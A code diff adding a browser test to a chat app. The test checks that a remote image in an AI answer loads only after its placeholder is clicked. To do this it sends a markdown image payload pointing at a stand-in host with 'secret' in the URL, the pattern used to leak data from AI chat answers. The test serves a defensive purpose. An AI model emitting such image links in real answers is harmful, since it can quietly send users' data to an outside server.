@@ -32,6 +32,42 @@ test('browsing answers show numbered references without the provider markers', a
   await expect(text).not.toContainText('†');
 });
 
+/** A 1×1 PNG. */
+const PIXEL = Buffer.from(
+  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
+  'base64',
+);
+
+test('an image from another host in an answer loads only when its placeholder is clicked', async ({
+  page,
+}) => {
+  // Every request the browser makes to the other host is recorded (and answered here, nothing leaves the machine).
+  const requested: string[] = [];
+  await page.route('https://img.example/**', async (route) => {
+    requested.push(route.request().url());
+    await route.fulfill({ status: 200, contentType: 'image/png', body: PIXEL });
+  });
+  await useEnglish(page);
+  await login(page, '/login?redirect=/conversation');
+  await startConversation(page, 'OpenAI API', /^GPT-3\.5/);
+  // The emulated model echoes the question: its answer carries the image.
+  await send(page, '![pixel](https://img.example/leak.png?q=secret)');
+  await expect(page.getByTestId('send-button')).toBeVisible({ timeout: 20_000 });
+  const answer = lastRow(page);
+  const placeholder = answer.getByRole('button', { name: 'Image from img.example: click to load' });
+  await expect(placeholder).toBeVisible({ timeout: 20_000 });
+  await expect(answer.locator('img[src*="img.example"]')).toHaveCount(0);
+  expect(requested).toEqual([]);
+
+  // Keyboard: focus the placeholder and press Enter.
+  await placeholder.focus();
+  await page.keyboard.press('Enter');
+  const image = answer.locator('img[src="https://img.example/leak.png?q=secret"]');
+  await expect(image).toBeVisible();
+  await expect.poll(() => image.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(1);
+  expect(requested).toEqual(['https://img.example/leak.png?q=secret']);
+});
+
 test('the theme offers light, dark and follow the device, and each is remembered', async ({ page }) => {
   await page.emulateMedia({ colorScheme: 'light' });
   await useEnglish(page);
